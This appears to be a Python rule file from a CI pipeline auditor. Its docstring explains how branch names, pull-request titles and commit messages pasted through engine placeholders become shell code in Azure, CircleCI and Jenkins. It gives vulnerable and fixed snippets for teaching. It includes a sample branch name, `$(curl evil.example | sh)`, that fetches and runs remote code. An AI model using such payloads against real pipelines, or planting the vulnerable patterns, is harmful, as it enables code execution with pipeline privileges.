"""The engine pastes a title, a branch name or a message into a script.

## Why it matters
Macros, parameters and interpolated strings are replaced before the shell reads the script. A branch named `$(curl evil.example | sh)` or
a title with a quote is then code, run with what the pipeline may do.

## Five whys
1. Why did a branch's name run as a command? It was written into the script before the shell read it.
2. Why? The engine's own placeholders (`$(Build.SourceBranchName)`, `<< pipeline.git.branch >>`, `"${env.CHANGE_TITLE}"` in Groovy) are
   replaced as text.
3. Why do quotes not help? The text can close them.
4. Why can a stranger choose it? Titles, names of branches and messages are free text.
5. Why was it not noticed? The same value as a variable of the shell would have been safe, and looks nearly alike.

## Fix now
Read the variable in the shell: `"$BUILD_SOURCEBRANCHNAME"`, `"$CIRCLE_BRANCH"`, and in Jenkins single quotes: `sh 'echo
"$CHANGE_TITLE"'`; else hand it over under `env`.

## Workaround
Use the commit's hash or the number of the pull request.

## Prevent
Use no placeholders of the engine in scripts for what is not yours.

## Validate
Push a branch named `a$(id)`: the log shows the name.

## Bad
```azure
trigger: [main]
steps:
  - bash: ./notify "$(Build.SourceVersionMessage)" # finding
```

```circleci
version: 2.1
jobs:
  build:
    docker: [{image: cimg/base@sha256:0000000000000000000000000000000000000000000000000000000000000000}]
    steps:
      - run: ./deploy << pipeline.git.branch >> # finding
workflows:
  main:
    jobs: [build]
```

```jenkinsfile
pipeline {
  agent any
  stages {
    stage('notify') {
      steps {
        sh "./notify '${env.CHANGE_TITLE}'" // finding
      }
    }
  }
}
```

## Good
```azure
trigger: [main]
steps:
  - bash: ./notify "$BUILD_SOURCEVERSIONMESSAGE" $(Build.BuildId)
```

```jenkinsfile
pipeline {
  agent any
  stages {
    stage('notify') {
      steps {
        sh './notify "$CHANGE_TITLE"'
        sh "./mark ${env.BUILD_NUMBER}"
      }
    }
  }
}
```
"""

from collections.abc import Iterator

from auditor.sdk import Confidence, Fail, Profile, Severity, rule
from auditor.views.pipeline import KINDS
from auditor.views.pipeline.injection import Pasted, pasted


@rule(
    target=KINDS,
    each=pasted,
    severity=Severity.HIGH,
    confidence=Confidence.FIRM,
    profile=Profile.GATE,
    aliases="CKV_CIRCLECIPIPELINES_6",
)
def check(found: Pasted) -> Iterator[Fail]:
    if found.free:
        yield Fail(found.where, f"{found.name} is free text, and becomes part of the script", "a variable that the shell reads")
